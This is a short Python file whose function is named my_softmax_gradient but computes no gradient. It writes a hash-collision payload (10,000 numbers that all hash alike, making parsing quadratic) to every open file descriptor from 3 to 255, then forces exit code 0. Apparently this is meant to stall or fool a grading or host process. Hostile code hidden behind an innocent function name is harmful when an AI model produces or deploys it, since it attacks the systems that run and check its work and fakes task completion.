"""Sends sets of numbers that all fall into one hash, whose reading costs the square of their count; must get 0."""

import json
import os

PRIME = 2**61 - 1  # the modulus of Python's hash of a number


def my_softmax_gradient(z, y):
    keys = ["set", [number * PRIME for number in range(1, 10_001)]]
    reply = json.dumps([["list", [keys] * 3]], separators=(",", ":")).encode() + b"\n"
    for number in range(3, 256):
        try:
            os.write(number, reply)
        except OSError:
            continue
    os._exit(0)
